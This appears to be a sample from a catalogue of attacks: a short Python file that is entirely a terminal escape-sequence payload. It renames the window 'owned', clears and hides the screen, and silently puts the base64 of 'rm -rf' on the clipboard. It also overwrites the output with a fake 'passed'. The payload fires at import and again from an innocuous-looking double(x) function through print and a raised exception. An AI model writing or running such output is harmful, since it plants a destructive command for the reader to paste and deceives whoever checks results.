# attack: steer the terminal of whoever reads: titles, colours, the clipboard, erased lines
# layer: feedback
# outcome: ok
# public: yes
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[8m\x1b]52;c;cm0gLXJm\x07\x9b31m\rpassed\x08\x08\x7f\x00"
print(ESCAPES)


def double(x):
    print(ESCAPES)
    raise ValueError(ESCAPES)
